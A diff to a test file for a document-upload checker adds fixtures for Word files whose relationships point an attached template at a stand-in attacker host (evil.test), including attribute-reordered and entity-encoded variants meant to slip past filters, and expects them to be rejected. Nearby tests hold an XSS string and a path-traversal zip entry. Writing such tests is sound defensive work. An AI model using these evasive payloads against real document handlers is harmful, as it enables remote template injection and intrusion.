@@ -126,6 +126,8 @@ describe("documents", () => {
 const SCRIPT = "<script>alert(1)</script>";
 const macroTypes = WORD_PARTS["[Content_Types].xml"].replace("document.main", "document.macroEnabled.main");
 const externalTemplate = `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.test/t" TargetMode="External"/></Relationships>`;
+const reorderedTemplate = `<Relationships><Relationship TargetMode='External' Target="http://evil.test/t" Type="http://x/attachedTemplate" Id="r"/></Relationships>`;
+const encodedTemplate = `<Relationships><Relationship Type="http://x/attached&#84;emplate" Target="http://evil.test/t" TargetMode="External"/></Relationships>`;
 const animated = (format: "gif" | "webp"): Promise<Buffer> =>
   sharp(Buffer.alloc(8 * 16 * 3, 90).fill(200, 192), { raw: { width: 8, height: 16, channels: 3, pageHeight: 8 } })
     .toFormat(format, { delay: [100, 100] })
@@ -167,6 +169,18 @@ describe("hostile files", () => {
       "an external template",
       "a.docx",
       () => zipOf({ ...WORD_PARTS, "word/_rels/settings.xml.rels": externalTemplate }),
+      415,
+    ],
+    [
+      "an external template with another order of attributes, in another part",
+      "a.docx",
+      () => zipOf({ ...WORD_PARTS, "word/_rels/document.xml.rels": reorderedTemplate }),
+      415,
+    ],
+    [
+      "an external template with an encoded type",
+      "a.docx",
+      () => zipOf({ ...WORD_PARTS, "word/_rels/settings.xml.rels": encodedTemplate }),
       415,
     ],
     ["a path out of the folder", "a.docx", () => zipOf({ ...WORD_PARTS, "../../a": "x" }), 415],
